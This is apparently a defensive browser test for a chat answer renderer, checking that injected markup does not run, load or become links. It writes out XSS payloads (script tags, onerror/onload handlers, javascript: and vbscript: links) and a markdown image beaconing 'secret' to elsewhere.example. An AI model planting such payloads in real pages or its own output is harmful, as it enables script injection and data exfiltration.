// Text that wants to be more than text.
import assert from 'node:assert/strict';
import { askAndRead, relay, story } from '../harness.mjs';
import { events, final } from '../relay.mjs';

await story('hostile text', { viewport: { width: 360, height: 740 } }, async ({ page, check }) => {
  const foreign = [];
  page.on('request', (request) => { if (!request.url().startsWith(relay.url) && !request.url().startsWith('data:')) foreign.push(request.url()); });
  await page.goto(relay.url);
  const nasty = [
    '<img src=x onerror="window.ran=1"><script>window.ran=1</script>', '[a](javascript:window.ran=1) [b](java\tscript:window.ran=1) [c](data:text/html,x) [d](vbscript:x)',
    '![picture](https://elsewhere.example/?words=secret)', '```html"><img src=x onerror=window.ran=1>\n</code></pre><script>window.ran=1</script>\n```',
    '> <svg onload=window.ran=1>', '**<b onclick=window.ran=1>bold</b>** [1](javascript:window.ran=1)', `${'x'.repeat(500)} ${'['.repeat(3000)}${'*'.repeat(3000)}${'`'.repeat(999)}`,
    `| a | ${'wide '.repeat(60)} |\n|---|---|\n| 1 | 2 |`, `${'> '.repeat(300)}deep`, `${'- '.repeat(300)}deep`, '[good](book/page.md) and https://example.org/x.',
  ].join('\n\n');
  relay.next = events({ content: nasty, status: 'partial' }, final(nasty, { sources: [
    { n: 1, title: '<img src=x onerror=window.ran=1>', url: 'javascript:window.ran=1', path: 'x', quote: '<script>window.ran=1</script> [x](javascript:window.ran=1)' },
  ] }));
  await askAndRead(page, '<img src=x onerror=window.ran=1>');
  await check('nothing of it runs, loads or becomes markup', async () => {
    assert.equal(await page.evaluate(() => window.ran), undefined);
    assert.equal(await page.locator('#turns :is(img, script, svg:not(.icon svg), b, [onclick], [onload], [onerror])').count(), 0);
    assert.deepEqual(foreign, []);
  });
  await check('only http, https and relative links are links', async () => {
    const links = await page.locator('#turns a:not(.cite)').evaluateAll((all) => all.map((it) => it.href));
    assert.deepEqual(links, [`${relay.url}book/page.md`, 'https://example.org/x']);
  });
  await check('it is no wider than a phone', async () => assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 360));
});
